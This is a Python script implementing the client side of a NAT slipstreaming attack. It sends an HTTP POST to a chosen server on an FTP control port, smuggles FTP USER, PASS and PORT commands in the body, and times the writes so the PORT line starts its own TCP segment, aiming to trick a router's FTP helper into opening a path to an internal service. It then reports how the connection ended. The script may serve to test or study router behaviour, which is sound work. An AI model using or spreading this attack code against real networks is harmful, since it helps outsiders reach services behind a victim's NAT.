"""The victim's side of a NAT slipstreaming attempt: a program (a browser, a script) made to
send an HTTP request whose body the attacker chose, to the attacker's server on an FTP control
port, with the PORT line at the start of a TCP segment of its own.

slipstream_client.py SERVER PORT PORT_ARGUMENT

PORT_ARGUMENT is what follows "PORT " (h1,h2,h3,h4,p1,p2: the victim's own address and the
port of a service on it that the attacker wants to reach). Prints one JSON object: how the
connection ended ("reset", "closed", or "open" after three seconds) and what came back.
"""
import json
import socket
import sys
import time

server, port, port_argument = sys.argv[1], int(sys.argv[2]), sys.argv[3]

body = "USER a\r\nPASS b\r\n"
port_line = f"PORT {port_argument}\r\n"
head = (
    "POST /upload HTTP/1.1\r\n"
    f"Host: {server}:{port}\r\n"
    "Content-Type: text/plain\r\n"
    f"Content-Length: {len(body) + len(port_line)}\r\n"
    "\r\n"
)

sock = socket.create_connection((server, port), timeout=5)
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
received = b""
outcome = "open"
try:
    # Three writes with pauses: three segments, the PORT line starting the last one.
    for part in (head, body, port_line):
        sock.sendall(part.encode())
        time.sleep(0.3)
    sock.settimeout(0.5)
    deadline = time.time() + 3
    while time.time() < deadline:
        try:
            chunk = sock.recv(4096)
        except socket.timeout:
            continue
        if not chunk:
            outcome = "closed"
            break
        received += chunk
except (ConnectionResetError, BrokenPipeError):
    outcome = "reset"
sock.close()
print(json.dumps({"outcome": outcome, "received": received.decode(errors="replace")}))
